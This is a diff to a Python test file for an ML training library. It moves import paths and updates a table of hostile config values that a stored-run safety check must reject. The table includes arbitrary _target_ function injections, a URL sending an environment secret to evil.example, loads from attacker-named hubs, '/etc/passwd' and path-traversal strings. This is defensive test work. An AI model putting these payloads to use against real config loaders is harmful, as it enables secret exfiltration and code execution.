@@ -15,13 +15,13 @@ from typing import Any
 import pytest
 from omegaconf import OmegaConf
 
-from lightning_modules import stored
-from lightning_modules.launch import adopt_run, launch
+from lightning_modules.composing import stored
+from lightning_modules.composing.stored import check_stored
+from lightning_modules.folders.records import write_job
 from lightning_modules.loops.curriculum import compose_job
 from lightning_modules.loops.further import train_further
 from lightning_modules.pretrained import open_features, save_pretrained
-from lightning_modules.records import write_job
-from lightning_modules.stored import check_stored
+from lightning_modules.running.launch import adopt_run, launch
 from lightning_modules.workbench import open_run
 from plait.errors import PlaitError
 from tests.malformed.test_configs import TINY
@@ -86,14 +86,14 @@ HOSTILE: dict[str, Change] = {
     "imported-there": put("world", target("plait.document.json.loads", s="{}")),
     "writer-of-plait": put("world", target("plait.atomic.write_json", path="{here}/ran", value=1)),
     "deleter-of-plait": put("world", target("plait.atomic.remove_folder", folder="{here}/run")),
-    "job-as-model": put("model", target("lightning_modules.launch.fit", folder="{here}/ran")),
-    "launch-as-world": put("world", target("lightning_modules.launch.launch", config={"job": target("evil.run")})),
+    "job-as-model": put("model", target("lightning_modules.running.launch.fit", folder="{here}/ran")),
+    "launch-as-world": put("world", target("lightning_modules.running.launch.launch", config={"job": target("evil.run")})),
     "report-as-world": put("world", target("lightning_modules.jobs.page.write_report", runs=[], folder="{here}/ran")),
     "package-manager": put("world", target("lightning_modules.jobs.fetching.fetch", what="styles")),
     "pip-of-plait": put("world", target("plait.data.wordnet.archive.fetch", folder="{here}")),
     "mirror": put("world", target("lightning_modules.mirror.fetch_run", path="a/b/c", place="{here}")),
     "callback-as-world": put("world", target(CHECKPOINTS, folder="{here}/ran")),
-    "logger-as-world": put("world", target("lightning_modules.tracking.WandbRun", folder="{here}", project="p", offline=False)),
+    "logger-as-world": put("world", target("lightning_modules.tracking.loggers.WandbRun", folder="{here}", project="p", offline=False)),
     "lightning-as-world": put("world", target("lightning.pytorch.callbacks.ModelCheckpoint", dirpath="{here}/ran")),
     "private": put("world", target("plait.tokenizers.codes._put_in_place", temporary="a", folder="b")),
     "name-from-a-node": put("world", target("${objective.evil}")),
@@ -114,16 +114,19 @@ HOSTILE: dict[str, Change] = {
     "environment": put("template/seed", "${oc.env:SECRET}"),
     "environment-nested": put("template/seed", "${${seed}:SECRET}"),
     "environment-in-a-name": put("name", "a ${oc.env:SECRET}"),
-    "environment-to-a-server": put("world", target("lightning_modules.user_data.open_collection", path="https://evil.example/${oc.env:SECRET}")),
+    "environment-to-a-server": put("world", target("lightning_modules.composing.user_data.open_collection", path="https://evil.example/${oc.env:SECRET}")),
     "decoded": put("template/seed", "${oc.decode:'1'}"),
     # places and names elsewhere
     "address": put("backbone", target(RELEASED, name_or_folder="https://evil.example/model")),
     "of-the-hub": put("backbone", target(RELEASED, name_or_folder="evil/model")),
-    "data-of-the-hub": put("world", target("lightning_modules.user_data.open_collection", path="evil/data", cache="${paths.cache}/data")),
+    "data-of-the-hub": put(
+        "world",
+        target("lightning_modules.composing.user_data.open_collection", path="evil/data", cache="${paths.cache}/data"),
+    ),
     "package-by-name": put("world", target("plait.backbones.gguf.find_gguf", package="evil.sub")),
     "keeps-subwords-elsewhere": put("text_tokenizer/folders", {"run": "{here}/ran", "model": None}),
     "name-of-the-prompt": put("backbone", target(RELEASED, name_or_folder="${prompt}")),
-    "writes-elsewhere": put("world", target("lightning_modules.user_data.open_collection", path="{here}", cache="{here}/ran")),
+    "writes-elsewhere": put("world", target("lightning_modules.composing.user_data.open_collection", path="{here}", cache="{here}/ran")),
     "converts-elsewhere": put("backbone", target("plait.backbones.gguf.convert_gguf", file="x", folder="{here}/ran")),
     "absolute": put("template/options", "/etc/passwd"),
     "upwards": put("template/options", "a/../../b"),
@@ -215,9 +218,10 @@ WAYS: dict[str, Callable[[Path], Any]] = {
 
 @pytest.mark.parametrize("way", WAYS)
 def test_every_way_to_open_a_run_asks_the_check(sound, watched, way) -> None:
-    run = change(sound, put("model", target("lightning_modules.launch.launch", config={})), watched)
+    run = change(sound, put("model", target("lightning_modules.running.launch.launch", config={})), watched)
     with pytest.raises(
-        PlaitError, match=r"model of its config has the _target_ 'lightning_modules.launch.launch', which a stored run may"
+        PlaitError,
+        match=r"model of its config has the _target_ 'lightning_modules.running.launch.launch', which a stored run may",
     ):
         WAYS[way](run)
     assert_untouched(watched)
